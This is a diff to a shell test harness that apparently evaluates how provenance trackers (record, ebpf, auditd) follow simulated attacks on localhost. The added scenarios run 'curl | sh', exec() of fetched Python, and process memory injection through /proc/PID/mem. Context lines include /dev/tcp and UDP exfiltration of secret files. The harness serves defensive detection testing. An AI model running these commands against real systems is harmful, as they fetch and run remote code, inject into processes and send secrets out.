@@ -24,6 +24,9 @@
 #   stage     tar -cz | base64 | bash -c 'cat > /dev/tcp/...': a directory
 #             staged and sent through a pipeline to a listener
 #   fileless  python fetches an ELF into a memfd and execs /proc/self/fd/N
+#   curlsh    curl URL | sh; python exec() of code fetched with urllib
+#   procmem   process injection: a secret written into another process's
+#             memory through /proc/PID/mem; that process writes it out
 #   spool     cp of a crontab-like file into a spool directory
 set -eu
 top=${BTRACK_TOP:?}
@@ -47,6 +50,7 @@ P3=$((P1 + 2))
 P4=$((P1 + 3))
 P5=$((P1 + 4))
 P6=$((P1 + 5))
+P7=$((P1 + 6))
 
 SCENARIOS="
 dlrun	python3 -m http.server --bind 127.0.0.1 --directory srv $P1 > /dev/null 2>&1 & s=\$!; python3 ../listen.py $P2 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; until curl -s -o drop http://127.0.0.1:$P1/payload.sh; do sleep 0.1; done; chmod +x drop; ./drop $P2; wait \$l; wget -q -O drop2 http://127.0.0.1:$P1/payload.sh; python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(sys.argv[1], \"drop3\")' http://127.0.0.1:$P1/payload.sh; curl -s -o page http://127.0.0.1:$P1/decoy2; kill \$s; wait \$s || true; cat decoy > /dev/null
@@ -61,6 +65,8 @@ revshell	python3 ../attacker.py $P3 & a=\$!; while [ ! -e ready ]; do sleep 0.05
 udpx	python3 ../udprecv.py $P4 & u=\$!; while [ ! -e ready ]; do sleep 0.05; done; python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(open(\"secret\", \"rb\").read(), (\"127.0.0.1\", int(sys.argv[1])))' $P4; wait \$u; cat decoy > /dev/null
 stage	python3 ../listen.py $P5 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; tar -cz data | base64 | bash -c 'cat > /dev/tcp/127.0.0.1/$P5'; wait \$l; cat decoy > /dev/null
 fileless	python3 -m http.server --bind 127.0.0.1 --directory srv $P6 > /dev/null 2>&1 & s=\$!; python3 ../fileless.py http://127.0.0.1:$P6/p.elf; kill \$s; wait \$s || true; cat decoy > /dev/null
+curlsh	python3 -m http.server --bind 127.0.0.1 --directory srv $P7 > /dev/null 2>&1 & s=\$!; until curl -s http://127.0.0.1:$P7/inst.sh > /dev/null; do sleep 0.1; done; curl -s http://127.0.0.1:$P7/inst.sh | sh; python3 -c 'import sys, urllib.request; exec(urllib.request.urlopen(sys.argv[1]).read())' http://127.0.0.1:$P7/code.py; kill \$s; wait \$s || true; cat decoy > /dev/null
+procmem	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../inject.py \$v; wait \$v; cat decoy > /dev/null
 spool	mkdir -p spool/crontabs; cp job spool/crontabs/root; cat decoy > /dev/null
 "
 
@@ -117,6 +123,14 @@ stage	fwd	file:@/data/secret	none	reaches	file:@/loot
 fileless	back	file:@/out	none	reaches	file:@/secret	file:@/srv/p.elf
 fileless	back	file:@/out	none	lacks	file:@/decoy
 fileless	fwd	file:@/srv/p.elf	none	reaches	file:@/out
+curlsh	back	file:@/mark	none	reaches	file:@/srv/inst.sh
+curlsh	back	file:@/mark	none	lacks	file:@/decoy	file:@/srv/code.py	file:@/secret
+curlsh	back	file:@/pymark	none	reaches	file:@/srv/code.py
+curlsh	fwd	file:@/srv/inst.sh	none	reaches	file:@/mark	file:@/stolen
+procmem	back	file:@/vout	none	reaches	file:@/secret
+procmem	back	file:@/vout	none	lacks	file:@/decoy
+procmem	fwd	file:@/secret	none	reaches	file:@/vout
+curlsh	back	file:@/stolen	none	reaches	file:@/secret	file:@/srv/inst.sh
 spool	back	file:@/spool/crontabs/root	none	reaches	file:@/job
 spool	back	file:@/spool/crontabs/root	none	lacks	file:@/decoy
 '
@@ -127,10 +141,16 @@ auditd:inplace-ed:fwd#26  audit logs no write(2): every process holding a descri
 '
 
 KNOWN='
+record:procmem:back#57  process injection: a write into /proc/PID/mem changes process PID (as process_vm_writev and ptrace POKEDATA do) but is recorded as a write to a file named /proc/PID/mem, not as a dependency of that process; needs ingest to make it an edge from the writer to process PID (its start time from the source)
+record:procmem:fwd#59  process injection through /proc/PID/mem (record:procmem:back#57)
+ebpf:procmem:back#57  process injection through /proc/PID/mem (record:procmem:back#57)
+ebpf:procmem:fwd#59  process injection through /proc/PID/mem (record:procmem:back#57)
+auditd:procmem:back#57  process injection through /proc/PID/mem (record:procmem:back#57; audit logs the open of /proc/PID/mem O_RDWR, enough for the same edge)
+auditd:procmem:fwd#59  process injection through /proc/PID/mem (record:procmem:back#57)
 '
 
 prepare() {
-	for w in stage fileless revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
+	for w in curlsh procmem stage fileless revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
 		echo "the $w secret $$" >"$1/$w/secret"
 		echo "decoy $$" >"$1/$w/decoy"
 	done
@@ -205,6 +225,28 @@ C
 	cc -o "$1/ldso/prog" "$1/prog.c"
 	printf 'b\na\n' >"$1/preload/in"
 	# the injected library writes its mark into the victim's stdout
+	mkdir -p "$1/curlsh/srv"
+	printf 'cat secret > stolen\necho installed > mark\n' >"$1/curlsh/srv/inst.sh"
+	printf 'open("pymark", "w").write("ran")\n' >"$1/curlsh/srv/code.py"
+	# process injection: inject.py writes the secret into the victim's
+	# memory through /proc/PID/mem; the victim writes what it holds
+	cat >"$1/victim.py" <<'PY'
+import ctypes, os, time
+b = ctypes.create_string_buffer(b"\0" * 64)
+open("addr", "w").write(str(ctypes.addressof(b)))
+t = time.time() + 10
+while b.value == b"" and time.time() < t:
+    time.sleep(0.02)
+open("vout", "wb").write(b.value)
+PY
+	cat >"$1/inject.py" <<'PY'
+import sys
+d = open("secret", "rb").read().strip()
+a = int(open("addr").read())
+with open("/proc/%s/mem" % sys.argv[1], "r+b", buffering=0) as m:
+    m.seek(a)
+    m.write(d)
+PY
 	mkdir -p "$1/stage/data" "$1/fileless/srv"
 	echo "the staged secret $$" >"$1/stage/data/secret"
 	cc -o "$1/fileless/srv/p.elf" "$1/prog.c"
